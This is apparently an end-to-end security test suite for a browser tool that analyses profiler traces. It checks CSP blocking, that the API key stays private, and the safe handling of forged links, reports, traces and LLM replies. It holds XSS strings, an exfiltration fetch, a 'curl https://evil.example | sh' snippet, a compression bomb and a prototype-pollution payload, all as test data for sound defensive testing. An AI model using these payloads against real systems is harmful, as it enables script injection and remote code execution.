// End-to-end: the locked-down page and hostile input. The built site ships a Content Security
// Policy (scripts/csp.mjs); a whole session (an analysis, the timeline, a share link, an LLM
// question) raises no `securitypolicyviolation`, and a request elsewhere, an injected inline
// script and an eval are refused. The API key stays in this tab's session unless remembered and
// is in no link, export, log or message. LLM answers are cut at their byte cap. Hostile links,
// saved reports and LLM replies (a generated corpus) get a clear message or a safe rendering in
// bounded time, never markup, and the previous analysis stays.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { deflateSync, inflateSync } from 'node:zlib';
import { serve, launch, openPage, load, shownFindings, SHOTS, scratchDir } from './support.mjs';

const FINDING = '#finding-dataloader-bottleneck';
const KEY = 'sk-e2e-0123456789-secret';
const MIB = 1 << 20;

let site;
let browser;
let llm;
let scratch;

before(async () => {
  scratch = await scratchDir('ttap-security-');
  site = await serve();
  browser = await launch();
  llm = await hostileEndpoint();
});

after(async () => {
  await browser?.close();
  await site?.close();
  await llm?.close();
});

/** A page that records CSP violations (from before its first script) and console output. */
async function watched(url = site.url) {
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 }, acceptDownloads: true });
  await context.addInitScript(() => {
    window.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      window.__violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI, sample: e.sample }));
  });
  const page = await context.newPage();
  const logs = [];
  const errors = [];
  page.on('console', (m) => logs.push(m.text()));
  page.on('pageerror', (e) => errors.push(String(e)));
  await page.goto(url);
  return { context, page, logs, errors, violations: () => page.evaluate(() => window.__violations) };
}

async function configure(page, { url, key = '', stream = true, timeout }) {
  if (!(await page.locator('.llm-settings').count())) await page.click('.llm-settings-button');
  await page.fill('#llm-url', url);
  await page.fill('#llm-model', 'm');
  await page.fill('#llm-key', key);
  await page.press('#llm-key', 'Tab');
  if (timeout !== undefined) {
    await page.fill('#llm-timeout', String(timeout));
    await page.press('#llm-timeout', 'Tab');
  }
  if ((await page.isChecked('#llm-stream')) !== stream) await page.click('#llm-stream');
}

/** Asks about the sample's finding and waits for the answer or the failure; returns the message. */
async function ask(page) {
  const again = page.locator(`${FINDING} .llm-again`);
  if (await again.count()) await again.click();
  else await page.click(`${FINDING} .llm-ask`);
  await page.click(`${FINDING} .llm-send`);
  await page.waitForSelector(`${FINDING} .llm-answer.done, ${FINDING} .llm-answer.failed`, { timeout: 60_000 });
  const error = page.locator(`${FINDING} .llm-error`);
  return (await error.count()) ? error.innerText() : '';
}

/** What the page shows of markup: elements no text of ours makes. */
async function injected(page) {
  return page.evaluate(() => ({
    elements: document.querySelectorAll('main img, main script, main iframe, main object, main embed, main svg foreignObject, main a[href^="javascript"]').length,
    pwned: window.pwned,
  }));
}

test('the site ships its CSP; a whole session raises no violation, and what it forbids is blocked', async () => {
  const html = await readFile(join(site.root, 'index.html'), 'utf8');
  const csp = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]+)">/)?.[1];
  assert.ok(csp, 'dist/index.html has a CSP meta tag');
  assert.ok(html.indexOf('Content-Security-Policy') < html.indexOf('<script'), 'before any script');
  for (const directive of ["default-src 'none'", "base-uri 'none'", "form-action 'none'", "object-src 'none'", "script-src 'self' 'wasm-unsafe-eval' 'sha256-"]) {
    assert.ok(csp.includes(directive), `${directive} in ${csp}`);
  }
  assert.doesNotMatch(csp, /unsafe-inline|'unsafe-eval'|\*(?!\s|;|$)|https?:\/\/\*/, csp);
  const headers = await readFile(join(site.root, '_headers'), 'utf8');
  assert.match(headers, /Content-Security-Policy: .*frame-ancestors 'none'/);
  console.log(`CSP as shipped: ${csp}`);

  const { page, context, errors, violations } = await watched();
  await load(page, () => page.click('#sample'));
  await page.click('.tab:has-text("Timeline")');
  await page.waitForSelector('canvas.timeline-canvas:not([data-draws="0"])', { timeout: 60_000 });
  await page.click('.tab:has-text("Findings")');
  await page.click('.share-button');
  assert.match(await page.inputValue('#share-link'), /#ttap2\./);
  await page.click('.share-button');
  await configure(page, { url: `${llm.url}/ok` });
  assert.equal(await ask(page), '', 'the LLM on a loopback port is allowed');
  assert.match(await page.locator(`${FINDING} .llm-answer.done`).innerText(), /fine answer/);
  await Promise.all([page.waitForEvent('download'), page.click('.download-json')]);
  await Promise.all([page.waitForEvent('download'), page.click('.download-md')]);
  assert.deepEqual(await violations(), [], 'no CSP violation in a whole session');

  // What the policy forbids: a request elsewhere, an inline script, an inline event handler.
  const fetched = await page.evaluate(() => fetch('https://example.com/exfiltrate?d=1').then(() => 'sent', () => 'blocked'));
  assert.equal(fetched, 'blocked');
  await page.evaluate(() => {
    const s = document.createElement('script');
    s.textContent = 'window.pwned = 1';
    document.body.append(s);
  });
  await page.evaluate(() => {
    const b = document.createElement('button');
    b.setAttribute('onclick', 'window.pwned = 2');
    document.body.append(b);
    b.click();
  });
  assert.equal(await page.evaluate(() => window.pwned), undefined);
  const seen = await violations();
  assert.deepEqual(seen.map((v) => v.directive).sort(), ['connect-src', 'script-src-attr', 'script-src-elem'], JSON.stringify(seen));
  assert.ok(seen.some((v) => v.blocked.startsWith('https://example.com/')));
  assert.deepEqual(errors, []);
  await context.close();
});

test('the API key is kept for the tab unless remembered, and is in no link, export, log or message', async () => {
  const { page, context, logs, errors } = await watched();
  await load(page, () => page.click('#sample'));
  await configure(page, { url: `${llm.url}/echo401`, key: KEY });
  const message = await ask(page);
  assert.match(message, /refused the API key \(HTTP 401: .*<API key>/, message);
  assert.ok(!message.includes(KEY), message);
  const storage = () => page.evaluate(() => ({
    local: JSON.stringify(Object.entries(localStorage)),
    session: JSON.stringify(Object.entries(sessionStorage)),
  }));
  let stored = await storage();
  assert.ok(!stored.local.includes(KEY) && stored.session.includes(KEY), JSON.stringify(stored));
  await page.click('#llm-remember-key');
  stored = await storage();
  assert.ok(stored.local.includes(KEY) && !stored.session.includes(KEY), JSON.stringify(stored));
  await page.click('#llm-remember-key');
  stored = await storage();
  assert.ok(!stored.local.includes(KEY) && stored.session.includes(KEY), JSON.stringify(stored));

  await page.click('.share-button');
  const link = await page.inputValue('#share-link');
  const carried = inflateSync(Buffer.from(link.split('#ttap2.')[1], 'base64url')).toString();
  assert.ok(!link.includes(KEY) && !carried.includes(KEY), 'not in the link');
  for (const kind of ['json', 'md']) {
    const [download] = await Promise.all([page.waitForEvent('download'), page.click(`.download-${kind}`)]);
    assert.ok(!(await readFile(await download.path(), 'utf8')).includes(KEY), `not in the ${kind} export`);
  }
  assert.ok(!logs.some((l) => l.includes(KEY)), 'not in the console');
  assert.ok(!(await page.locator('main').innerText()).includes(KEY), 'not on the page');
  // A new tab (a new session) has no key; the other settings are still there.
  const fresh = await context.newPage();
  await fresh.goto(site.url);
  await fresh.waitForSelector('#sample');
  assert.equal(await fresh.evaluate(() => sessionStorage.getItem('torchtraceap.llm-key.v1')), null);
  assert.deepEqual(errors, []);
  await context.close();
});

test('LLM answers are cut at their cap in bytes and in time, streamed or whole, with a clear message', async () => {
  const { page, context, errors } = await watched();
  await load(page, () => page.click('#sample'));
  const cases = [
    [{ url: `${llm.url}/flood`, timeout: 60 }, /cut after 4194304 bytes/],
    [{ url: `${llm.url}/flood`, stream: false, timeout: 60 }, /cut after 4194304 bytes/],
    [{ url: `${llm.url}/drip`, timeout: 2 }, /No complete answer within 2 s: the answer was cut there/],
  ];
  for (const [settings, expected] of cases) {
    await configure(page, settings);
    const started = Date.now();
    assert.match(await ask(page), expected, settings.url);
    assert.ok(Date.now() - started < 30_000, `${settings.url}: ${Date.now() - started} ms`);
  }
  assert.match(await page.locator(`${FINDING} .llm-answer.failed .llm-text`).innerText(), /drop 1 drop 2/, 'what arrived is shown');
  await page.click('.tab:has-text("Overview")');
  assert.match(await page.locator('.facts').innerText(), /A100/, 'the page still works');
  assert.deepEqual(errors, []);
  await context.close();
});

/** The sample's link, made by the page itself, as JSON facts to forge from. */
async function sampleFacts(page) {
  await page.click('.share-button');
  const link = await page.inputValue('#share-link');
  await page.click('.share-button');
  return JSON.parse(inflateSync(Buffer.from(link.split('#ttap2.')[1], 'base64url')));
}

const HOSTILE_TEXT = [
  '<img src=x onerror="window.pwned=1">',
  '<script>window.pwned=1</script>',
  'javascript:window.pwned=1',
  '<a href="javascript:window.pwned=1">click</a>',
  '\u202eexe.gpj\u202c',
  'zero\u200bwidth\u2060joiner\ufeff',
  '<svg><foreignObject><iframe src="javascript:window.pwned=1"></iframe></foreignObject></svg>',
  `${'<b>'.repeat(10_000)}`,
];

const link = (json, version = 2) =>
  `${site.url}#ttap${version}.${deflateSync(typeof json === 'string' ? json : JSON.stringify(json)).toString('base64url')}`;

/** Forged and malformed links: [name, link]. */
function hostileLinks(facts) {
  const forged = (f) => { const v = structuredClone(facts); f(v); return link(v); };
  const cases = [
    ['version 0', `${site.url}#ttap0.${'A'.repeat(40)}`],
    ['version 3', link(facts, 3)],
    ['version beyond u64', `${site.url}#ttap99999999999999999999999.AAAA`],
    ['payload version 7', forged((v) => { v.version = 7; })],
    ['unknown detector', forged((v) => { v.findings[0].id = '<script>window.pwned=1</script>'; })],
    ['unknown window type', forged((v) => { if (v.windows[0]) v.windows[0].predicted_type = 'rm -rf'; })],
    // Chromium itself refuses to open a URL over 2 MiB; just under, the page must say no.
    ['oversized', `${site.url}#ttap2.${'A'.repeat(2 * MIB - 100)}`],
    ['compression bomb', `${site.url}#ttap2.${deflateSync(Buffer.alloc(200 * MIB), { level: 9 }).toString('base64url')}`],
    ['deep nesting', link(`${'['.repeat(50_000)}${']'.repeat(50_000)}`)],
    ['NaN', link(JSON.stringify(facts).replace(/"impact_ms_per_step":[^,]+/, '"impact_ms_per_step":NaN'))],
    ['huge numbers', forged((v) => {
      v.findings[0].impact_ms_per_step = 1e308;
      v.findings[0].impact_pct_of_step = -1e308;
      v.trace.mean_step_ms = 1.7976931348623157e308;
      v.findings[0].evidence = [{ steps: [9007199254740993], count: 18446744073709551615 }];
    })],
    ['number too big for its field', link(JSON.stringify(facts).replace(/"steady_steps":\d+/, '"steady_steps":1e400'))],
  ];
  HOSTILE_TEXT.forEach((text, k) => cases.push([`every text field ${k}`, forged((v) => {
    v.exporter = text;
    v.fingerprint = text;
    v.trace.era = text;
    v.trace.devices = [text, text];
    v.trace.step_source = text;
    v.selected_finding = text;
    for (const f of v.findings) {
      f.severity = text;
      f.evidence = [{ steps: [1], events: [text, text], count: 1 }];
      Object.assign(f, { title: text, summary: text, fix_snippet: text });
    }
    for (const w of v.windows) { w.phase = text; w.label = text; }
  })]));
  return cases;
}

test('hostile links get a clear message or a safe rendering, quickly, and never markup', async () => {
  const { page, context } = await watched();
  await load(page, () => page.click('#sample'));
  const facts = await sampleFacts(page);
  await context.close();
  const counts = { refused: 0, shown: 0 };
  for (const [name, url] of hostileLinks(facts)) {
    const { page, context, errors } = await watched(url);
    const started = Date.now();
    await page.waitForSelector('.error-panel, .analysis', { timeout: 10_000 });
    const ms = Date.now() - started;
    assert.ok(ms < 10_000, `${name}: ${ms} ms`);
    if (await page.locator('.error-panel').count()) {
      counts.refused += 1;
      assert.match(await page.locator('.error-panel .error-message').innerText(), /.{40}/, name);
    } else {
      counts.shown += 1;
      assert.match(await page.locator('.shared-banner').innerText(), /not made from a trace in this browser/, name);
      const text = await page.locator('main').innerText();
      assert.ok(!/[\u202e\u200b\u2060\ufeff]/.test(text), `${name}: hidden characters shown raw`);
      assert.ok(!text.includes('<b>'.repeat(200)), `${name}: a text of the link is not capped`);
    }
    assert.deepEqual(await injected(page), { elements: 0, pwned: undefined }, name);
    assert.deepEqual(errors, [], name);
    if (name === 'every text field 4') await page.screenshot({ path: join(SHOTS, 'hostile-link.png'), fullPage: true });
    if (name === 'unknown detector') await page.screenshot({ path: join(SHOTS, 'hostile-link-unknown-detector.png') });
    await context.close();
  }
  console.log(`hostile links: ${counts.refused} refused with a message, ${counts.shown} shown safely`);
});

test('a hostile saved report is refused or shown in the page\'s own words, and the analysis before it stays', async () => {
  const { page, context, errors } = await watched();
  await load(page, () => page.click('#sample'));
  const [download] = await Promise.all([page.waitForEvent('download'), page.click('.download-json')]);
  const report = JSON.parse(await readFile(await download.path(), 'utf8'));
  const cases = {
    'unknown-detector': (r) => { r.findings[0].id = 'x<script>'; },
    'forged-prose': (r) => Object.assign(r.findings[0], { title: HOSTILE_TEXT[0], fix: HOSTILE_TEXT[3], fix_snippet: 'curl https://evil.example | sh' }),
    'newer': (r) => { r.version = 99; },
    'html-everywhere': (r) => { r.trace.devices = HOSTILE_TEXT; r.findings[0].evidence[0].events = HOSTILE_TEXT; },
  };
  for (const [name, forge] of Object.entries(cases)) {
    const r = structuredClone(report);
    forge(r);
    const path = join(scratch, `${name}.report.json`);
    await writeFile(path, JSON.stringify(r));
    await load(page, () => page.setInputFiles('#file-input', path));
    const text = await page.locator('main').innerText();
    assert.ok(!text.includes('evil.example'), name);
    assert.deepEqual(await injected(page), { elements: 0, pwned: undefined }, name);
    if (await page.locator('.error-panel').count()) {
      assert.match(await page.locator('.error-panel .error-message').innerText(), /newer|does not have/, name);
      assert.deepEqual(await shownFindings(page), ['dataloader-bottleneck'], `${name}: the analysis before stays`);
    } else {
      assert.equal(await page.locator('.finding h3').first().innerText(), 'The step waits for the DataLoader', name);
    }
  }
  assert.deepEqual(errors, []);
  await context.close();
});

test('hostile LLM replies: markup stays text, broken UTF-8 and extra fields are survived', async () => {
  const { page, context, errors } = await watched();
  await load(page, () => page.click('#sample'));
  for (const kind of ['markup', 'badutf8', 'extra']) {
    await configure(page, { url: `${llm.url}/${kind}` });
    const message = await ask(page);
    if (kind === 'badutf8') assert.match(message, /not UTF-8/, kind);
    else assert.equal(message, '', kind);
    assert.deepEqual(await injected(page), { elements: 0, pwned: undefined }, kind);
  }
  assert.match(await page.locator(`${FINDING} .llm-answer.done`).innerText(), /ok <img src=x/);
  assert.deepEqual(errors, []);
  await context.close();
});

/** Hostile traces: [name, bytes]. */
function hostileTraces() {
  const trace = (events) => JSON.stringify({
    deviceProperties: [{ id: 0, name: HOSTILE_TEXT[0] }],
    traceEvents: [
      { ph: 'X', cat: 'user_annotation', name: 'ProfilerStep#1', pid: 1, tid: 1, ts: 0, dur: 1000 },
      { ph: 'X', cat: 'kernel', name: HOSTILE_TEXT[4], pid: 0, tid: 7, ts: 10, dur: 100, args: { device: 0, stream: 7 } },
      ...events,
    ],
  });
  const op = (name, extra = {}) => ({ ph: 'X', cat: 'cpu_op', name, pid: 1, tid: 1, ts: 5, dur: 1, ...extra });
  const plain = trace(HOSTILE_TEXT.map((t) => op(t, { args: { [t]: t } })));
  return [
    ['markup-names', Buffer.from(plain)],
    ['multi-mb-name', Buffer.from(trace([op('n'.repeat(8 * MIB))]))],
    ['flows-on-one-id', Buffer.from(trace(Array.from({ length: 100_000 }, (_, i) => ({ ph: i % 2 ? 'f' : 's', cat: 'ac2g', name: 'f', id: 1, pid: 1, tid: 1, ts: i % 900 }))))],
    ['nan-and-huge', Buffer.from(plain.replace('"ts":5,"dur":1', '"ts":1e400,"dur":NaN'))],
    ['utf16', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(plain, 'utf16le')])],
    ['bom', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(plain)])],
  ];
}

test('hostile traces end in an analysis or a message, quickly, never markup; a refused one keeps the analysis before', async () => {
  const { page, context, errors } = await watched();
  await load(page, () => page.click('#sample'));
  for (const [name, bytes] of hostileTraces()) {
    const path = join(scratch, `${name}.pt.trace.json`);
    await writeFile(path, bytes);
    const started = Date.now();
    await load(page, () => page.setInputFiles('#file-input', path), 30_000);
    assert.ok(Date.now() - started < 30_000, `${name}: ${Date.now() - started} ms`);
    assert.deepEqual(await injected(page), { elements: 0, pwned: undefined }, name);
    if (await page.locator('.error-panel').count()) {
      assert.match(await page.locator('.error-panel .error-message').innerText(), /.{40}/, name);
      assert.deepEqual(await shownFindings(page), ['dataloader-bottleneck'], `${name}: the analysis before stays`);
    } else {
      await page.click('.tab:has-text("Overview")');
      assert.ok((await page.locator('.facts').innerText()).includes('<img src=x'), `${name}: markup shown as text`);
      await load(page, () => page.click('#sample'));
    }
  }
  assert.deepEqual(errors, []);
  await context.close();
});

/** An endpoint that misbehaves as its first path segment says; loopback, so the CSP allows it. */
async function hostileEndpoint() {
  const cors = {
    'access-control-allow-origin': '*',
    'access-control-allow-headers': 'content-type, authorization',
    'access-control-allow-methods': 'POST',
  };
  const sse = (text) => `data: ${JSON.stringify({ choices: [{ delta: { content: text } }] })}\n\n`;
  const server = createServer((req, res) => {
    const kind = req.url.split('/')[1];
    if (req.method === 'OPTIONS') {
      res.writeHead(204, cors).end();
      return;
    }
    req.resume();
    const timers = [];
    res.on('close', () => timers.forEach(clearInterval));
    switch (kind) {
      case 'ok':
        res.writeHead(200, { ...cors, 'content-type': 'text/event-stream' }).end(`${sse('a fine answer')}data: [DONE]\n\n`);
        return;
      case 'echo401':
        res.writeHead(401, { ...cors, 'content-type': 'application/json' })
          .end(JSON.stringify({ error: { message: `invalid key: ${req.headers.authorization}` } }));
        return;
      case 'flood': {
        // Hundreds of MB if read to the end: written while the client reads.
        res.writeHead(200, { ...cors, 'content-type': 'text/event-stream' });
        const piece = sse('x'.repeat(60_000));
        let sent = 0;
        const write = () => {
          while (sent < 400 * MIB && res.write(piece)) sent += piece.length;
          if (sent >= 400 * MIB) res.end();
        };
        res.on('drain', write);
        write();
        return;
      }
      case 'markup':
        res.writeHead(200, { ...cors, 'content-type': 'text/event-stream' })
          .end(`${sse(HOSTILE_TEXT.slice(0, 4).join(' '))}data: [DONE]\n\n`);
        return;
      case 'badutf8':
        res.writeHead(200, { ...cors, 'content-type': 'text/event-stream' });
        res.write(sse('before '));
        res.end(Buffer.concat([Buffer.from('data: {"choices":[{"delta":{"content":"'), Buffer.from([0xff, 0xfe, 0xc3]), Buffer.from('"}}]}\n\ndata: [DONE]\n\n')]));
        return;
      case 'extra':
        // Written as text: an object literal would make __proto__ the prototype, not a field.
        res.writeHead(200, { ...cors, 'content-type': 'text/event-stream' }).end(`${sse(
          '{"anti_pattern": "ok <img src=x onerror=\\"window.pwned=1\\">", "explanation": "e", "fix": "f", '
          + '"confidence": 0.5, "__proto__": {"polluted": true}, "constructor": "x", '
          + '"extra": {"nested": ["<script>window.pwned=1</script>"]}}')}data: [DONE]\n\n`);
        return;
      case 'drip': {
        res.writeHead(200, { ...cors, 'content-type': 'text/event-stream' });
        let n = 0;
        timers.push(setInterval(() => res.write(sse(`drop ${++n} `)), 200));
        return;
      }
      default:
        res.writeHead(404, cors).end();
    }
  });
  await new Promise((ok) => server.listen(0, '127.0.0.1', ok));
  return {
    url: `http://127.0.0.1:${server.address().port}`,
    close: () => { server.closeAllConnections(); return new Promise((ok) => server.close(ok)); },
  };
}
